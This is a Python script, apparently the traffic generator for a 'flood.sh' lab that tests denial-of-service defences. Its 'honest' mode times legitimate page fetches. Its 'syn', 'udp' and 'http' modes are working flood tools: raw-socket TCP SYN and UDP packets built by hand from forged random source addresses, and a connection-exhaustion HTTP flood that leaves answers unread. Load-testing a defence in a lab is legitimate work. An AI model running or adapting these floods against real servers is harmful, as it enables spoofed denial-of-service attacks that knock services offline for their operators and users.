#!/usr/bin/env python3
"""The two sides of flood.sh.

flood.py honest ADDRESS PORT HOST RATE SECONDS   open loop: a page on a new connection, from 50 addresses in turn; each has three seconds.
                                                 Prints "ASKED ANSWERED P50_MS P99_MS"
flood.py syn|udp ADDRESS PORT RATE SECONDS       packets from forged addresses, none twice soon
flood.py http ADDRESS PORT HOST RATE SECONDS     requests from four addresses, answers unread
"""
import asyncio, random, socket, struct, sys, time

HONEST = ["203.0.113.%d" % i for i in range(1, 51)]
HOSTILE = ["8.8.4.%d" % i for i in range(1, 5)]


def paced(rate, seconds, step):
    start, n = time.monotonic(), 0
    while (now := time.monotonic() - start) < seconds:
        while n < now * rate:
            step(n)
            n += 1
        time.sleep(0.001)
    return n


async def ask(source, address, port, host, done):
    began = time.monotonic()
    try:
        async with asyncio.timeout(3):
            r, w = await asyncio.open_connection(address, port, local_addr=(source, 0))
            w.write(b"GET /page.html HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\nConnection: close\r\n\r\n" % host.encode())
            answer = await r.read(-1)
            w.close()
        done.append((time.monotonic() - began) * 1000 if answer.startswith(b"HTTP/1.1 200") and answer.endswith(b"</html>\n") else None)
    except (OSError, TimeoutError):
        done.append(None)


async def honest(address, port, host, rate, seconds):
    done, tasks, start = [], [], time.monotonic()
    for n in range(int(rate * seconds)):
        await asyncio.sleep(max(0, start + n / rate - time.monotonic()))
        tasks.append(asyncio.create_task(ask(HONEST[n % len(HONEST)], address, port, host, done)))
    await asyncio.gather(*tasks)
    good = sorted(x for x in done if x is not None)
    print(len(done), len(good), *(("%.0f" % good[int(len(good) * q)]) if good else "-" for q in (0.5, 0.99)))


def forged(kind, address, port, rate, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    to = socket.inet_aton(address)
    d1, d2 = struct.unpack("!HH", to)

    def step(_):
        a, b, sport = random.randrange(0x0b00, 0x7e00), random.randrange(1, 65535), random.randrange(1024, 65536)
        if kind == "udp":
            body = struct.pack("!HHHH", sport, port, 8 + 64, 0) + b"x" * 64
        else:
            total = a + b + d1 + d2 + 6 + 20 + sport + port + 1 + 0x5002 + 65535
            while total >> 16:
                total = (total & 0xFFFF) + (total >> 16)
            body = struct.pack("!HHIIHHHH", sport, port, 1, 0, 0x5002, 65535, ~total & 0xFFFF, 0)
        head = struct.pack("!BBHHHBBHHH4s", 0x45, 0, 20 + len(body), 0, 0, 64, 17 if kind == "udp" else 6, 0, a, b, to)
        try:
            s.sendto(head + body, (address, 0))
        except OSError:
            pass

    print(paced(rate, seconds, step))


def hostile(n):
    s = socket.socket()
    s.bind((HOSTILE[n % len(HOSTILE)], 0))
    s.setblocking(False)
    return s


def http(address, port, host, rate, seconds):
    open_ = []

    def step(n):
        s = hostile(n)
        s.connect_ex((address, port))
        open_.append((time.monotonic(), s))
        while open_ and time.monotonic() - open_[0][0] > 0.2:
            _, old = open_.pop(0)
            try:
                old.send(b"GET /page.html?%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n" % (n, host.encode()))
            except OSError:
                pass
            old.close()

    print(paced(rate, seconds, step))


def main():
    kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if kind == "honest":
        asyncio.run(honest(address, port, sys.argv[4], float(sys.argv[5]), float(sys.argv[6])))
    elif kind in ("syn", "udp"):
        forged(kind, address, port, float(sys.argv[4]), float(sys.argv[5]))
    else:
        http(address, port, sys.argv[4], float(sys.argv[5]), float(sys.argv[6]))


main()
